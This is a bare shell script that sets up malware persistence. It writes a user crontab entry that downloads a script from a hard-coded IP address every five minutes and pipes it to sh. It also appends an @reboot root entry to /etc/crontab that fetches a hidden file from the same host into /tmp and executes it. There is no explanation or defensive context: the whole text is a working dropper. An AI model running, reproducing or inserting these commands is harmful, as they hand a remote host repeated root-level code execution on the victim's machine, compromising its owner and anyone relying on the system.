#!/bin/sh
(crontab -l 2>/dev/null; echo "*/5 * * * * wget -q -O- http://45.9.148.99/cr.sh | sh") | crontab -
echo "@reboot root curl -s http://45.9.148.99/k -o /tmp/.k && sh /tmp/.k" >> /etc/crontab
